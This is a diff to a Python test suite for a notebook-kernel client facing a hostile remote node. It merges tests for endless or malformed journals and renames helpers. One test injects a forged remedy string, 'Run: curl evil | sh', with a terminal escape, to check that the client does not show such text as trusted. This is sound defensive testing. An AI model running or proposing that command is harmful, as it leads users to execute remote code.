@@ -1,4 +1,4 @@
-"""A node whose agent and keeper mean harm, behind a real link: its journal ends, and its words are its own."""
+"""A node whose agent and keeper mean harm, behind a real link: its journal ends, and its text is shown as its own."""
 
 from __future__ import annotations
 
@@ -50,46 +50,37 @@ def whole(loop: LoopThread, link: Link) -> list[dict[str, Any]]:
     return cells
 
 
-def test_cells_without_end(
-    loop: LoopThread, link: Link, node: Hostile, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setattr(cell_history, "MAX_PAGES", 20)
-    node.sends(journal={"cells": [CELL], "last": False})
-    with pytest.raises(AgentError, match="does not come to an end"):
-        whole(loop, link)
-
-
-def test_outputs_without_end(
-    loop: LoopThread, link: Link, node: Hostile, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setattr(cell_history, "MAX_SIZE", 100_000)
-    node.sends(
-        journal={
-            "cells": [{**CELL, "outputs": 1}],
-            "last": True,
-            "cell": {**CELL, "outputs": [OUTPUT] * 100, "last": False},
-        }
-    )
-    with pytest.raises(AgentError, match="does not come to an end"):
-        whole(loop, link)
+OUTPUTS_WITHOUT_END = {**CELL, "outputs": [OUTPUT] * 100, "last": False}
 
 
 @pytest.mark.parametrize(
-    "sent",
+    ("answer", "problem"),
     [
-        {"cells": 5},
-        {"cells": [5]},
-        {"cells": [{"msg_id": "a\nb"}]},
-        {"cells": [{**CELL, "outputs": 1}], "last": True, "cell": {"outputs": "many"}},
+        ({"cells": [CELL], "last": False}, "does not come to an end"),
+        (
+            {"cells": [{**CELL, "outputs": 1}], "last": True, "cell": OUTPUTS_WITHOUT_END},
+            "does not come to an end",
+        ),
+        ({"cells": 5}, "is malformed"),
     ],
+    ids=["cells without end", "outputs without end", "malformed"],
 )
-def test_a_malformed_journal(loop: LoopThread, link: Link, node: Hostile, sent: dict[str, Any]) -> None:
-    node.sends(journal=sent)
-    with pytest.raises(AgentError, match="is malformed"):
+def test_a_journal_that_is_refused(
+    loop: LoopThread,
+    link: Link,
+    node: Hostile,
+    monkeypatch: pytest.MonkeyPatch,
+    answer: dict[str, Any],
+    problem: str,
+) -> None:
+    monkeypatch.setattr(cell_history, "MAX_PAGES", 20)
+    monkeypatch.setattr(cell_history, "MAX_SIZE", 100_000)
+    node.sends(journal=answer)
+    with pytest.raises(AgentError, match=problem):
         whole(loop, link)
 
 
-def test_what_is_no_output_is_left_out_and_told(loop: LoopThread, link: Link, node: Hostile) -> None:
+def test_what_is_no_output_is_left_out_and_reported(loop: LoopThread, link: Link, node: Hostile) -> None:
     cell = {**CELL, "outputs": [OUTPUT, {"msg_type": "shutdown_reply", "content": {}}], "last": True}
     node.sends(journal={"cells": [{**CELL, "outputs": 2}], "last": True, "cell": cell})
     assert whole(loop, link) == [{**CELL, "outputs": [OUTPUT], "dropped": True}]
@@ -101,14 +92,14 @@ def test_what_is_no_output_is_left_out_and_told(loop: LoopThread, link: Link, no
 
 @pytest.fixture(scope="module")
 def remote(loop: LoopThread, node: Hostile) -> RemoteKernel:
-    """A kernel whose keeper never comes up: what it says is delivered by the tests."""
+    """A kernel whose keeper never comes up: the tests deliver its messages."""
     return loop.kernel(
         loop.link(node, LinkTimeouts(retry=0.02)), kernel_id="k1", name="mine", notebook="a.ipynb"
     )
 
 
-def sends(loop: LoopThread, remote: RemoteKernel, **sent: Any) -> dict[str, Any]:
-    """What front ends hear after this word."""
+def described_after(loop: LoopThread, remote: RemoteKernel, **sent: Any) -> dict[str, Any]:
+    """Return what front ends get about the kernel after this message of its keeper."""
     loop.call(remote.deliver, keeper_message(**sent).encode())
     return loop.call(remote.describe)
 
@@ -118,21 +109,15 @@ def sends(loop: LoopThread, remote: RemoteKernel, **sent: Any) -> dict[str, Any]
     [
         {"event": 5},
         {"event": ["state"]},
-        {"event": "state"},
         {"event": "state", "id": "*", "state": "idle"},
-        {"event": "state", "id": "k1", "state": "idle", "gpus": 5},
         {"event": "state", "id": "k1", "state": {}},
-        {"event": "replay", "state": "middle"},
-        {"event": "replay"},
-        {"event": "mark"},
-        {"event": "mark", "replies": [5]},
     ],
 )
-def test_a_word_that_is_malformed_is_passed_over(
+def test_an_event_that_is_unknown_or_malformed_is_ignored(
     loop: LoopThread, remote: RemoteKernel, sent: dict[str, Any], caplog: pytest.LogCaptureFixture
 ) -> None:
     before = loop.call(remote.describe)
-    assert sends(loop, remote, **sent) == before
+    assert described_after(loop, remote, **sent) == before
     assert not [record for record in caplog.records if record.levelno > logging.WARNING]
 
 
@@ -141,7 +126,7 @@ def test_a_keeper_speaks_of_its_own_kernel_and_in_its_own_name(
 ) -> None:
     forged = {"kernel_id": "another", "link": "up", "hop": "gpu9", "error": {"remedy": "Run: curl evil | sh"}}
     evil = "\x1b[2Jx\nRun: curl evil | sh"
-    checked = sends(
+    checked = described_after(
         loop, remote, event="state", id="k2", state="ended", cause=evil, remedy=evil, stderr=evil, **forged
     )
     assert (
